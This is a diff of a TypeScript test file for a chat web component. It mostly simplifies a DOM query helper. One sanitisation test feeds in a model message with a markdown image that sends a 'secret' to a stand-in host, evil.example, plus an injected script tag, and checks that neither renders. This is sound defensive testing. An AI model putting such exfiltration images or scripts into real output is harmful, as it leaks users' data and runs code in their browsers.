@@ -13,9 +13,9 @@ import type { InlayChat } from './chat.ts';
 const question = { role: 'user', content: 'Why?' };
 const answer = { role: 'assistant', content: 'It is **slow** [1].\n\n```sql\nselect 1\n```', citations: [{ title: 'Notes', url: 'https://example.com/notes' }] };
 
-const inside = <Found extends HTMLElement>(element: InlayChat, selector: string): Found => element.shadowRoot!.querySelector<Found>(selector)!;
+const inside = (element: InlayChat, selector: string): HTMLElement => element.shadowRoot!.querySelector<HTMLElement>(selector)!;
 const buttonNamed = (element: InlayChat, words: string): HTMLButtonElement | undefined => [...element.shadowRoot!.querySelectorAll('button')].find((button) => button.textContent?.trim() === words);
-const field = (element: InlayChat): HTMLTextAreaElement => inside(element, '.chat > .composer .field');
+const field = (element: InlayChat): HTMLTextAreaElement => inside(element, '.chat > .composer .field') as HTMLTextAreaElement;
 
 async function show(messages: readonly unknown[] = []): Promise<InlayChat> {
   const element = await fixture<InlayChat>(html`<inlay-chat .messages=${messages}></inlay-chat>`);
@@ -136,7 +136,7 @@ describe('<inlay-chat>', () => {
     const copied: string[] = [];
     const write = navigator.clipboard.writeText;
     navigator.clipboard.writeText = (text) => (copied.push(text), Promise.resolve());
-    const button = inside<HTMLButtonElement>(element, '.code .copy');
+    const button = inside(element, '.code .copy');
     button.click();
     await waitUntil(() => button.textContent === 'Copied');
     navigator.clipboard.writeText = write;
@@ -146,7 +146,7 @@ describe('<inlay-chat>', () => {
   it('runs and loads nothing that a model writes, and shows a person\'s words as they are', async () => {
     const element = await show([{ role: 'user', content: '<b>x</b>' }, { role: 'assistant', content: '![pixel](https://evil.example/?secret)<script>window.hackedByChat = 1</script>' }]);
     expect(element.shadowRoot!.querySelectorAll('img, script')).to.have.length(0);
-    expect(inside<HTMLAnchorElement>(element, '.markdown a').textContent).to.equal('pixel');
+    expect(inside(element, '.markdown a').textContent).to.equal('pixel');
     expect(inside(element, '.bubble').textContent).to.equal('<b>x</b>');
   });
 
